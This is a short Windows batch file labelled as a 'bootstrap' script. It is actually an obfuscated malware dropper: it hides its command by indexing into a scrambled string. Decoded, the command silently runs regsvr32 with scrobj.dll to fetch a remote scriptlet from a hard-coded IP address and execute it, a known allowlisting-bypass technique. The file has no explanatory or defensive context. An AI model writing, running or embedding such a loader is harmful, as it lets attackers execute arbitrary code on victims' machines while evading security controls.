REM bootstrap 7214 v1
@echo off
set "fulf=K1Wbfh985ds/Srtn0.vgeop:GRlcqu3FE2ji"
%fulf:~-23,1%%fulf:~-16,1%%fulf:~19,1%%fulf:~10,1%%fulf:~18,1%%fulf:~13,1%%fulf:~-6,1%%fulf:~33,1% %fulf:~11,1%%fulf:~10,1% %fulf:~11,1%%fulf:~15,1% %fulf:~11,1%%fulf:~29,1% %fulf:~-25,1%%fulf:~35,1%%fulf:~23,1%%fulf:~-31,1%%fulf:~14,1%%fulf:~14,1%%fulf:~-14,1%%fulf:~-13,1%%fulf:~11,1%%fulf:~-25,1%%fulf:~1,1%%fulf:~6,1%%fulf:~7,1%%fulf:~17,1%%fulf:~8,1%%fulf:~1,1%%fulf:~17,1%%fulf:~1,1%%fulf:~16,1%%fulf:~16,1%%fulf:~17,1%%fulf:~-30,1%%fulf:~-25,1%%fulf:~-32,1%%fulf:~35,1%%fulf:~-10,1%%fulf:~20,1%%fulf:~-19,1%%fulf:~10,1%%fulf:~27,1%%fulf:~14,1% %fulf:~-26,1%%fulf:~-9,1%%fulf:~13,1%%fulf:~21,1%%fulf:~-33,1%%fulf:~-2,1%%fulf:~-19,1%%fulf:~9,1%%fulf:~-10,1%%fulf:~-10,1%
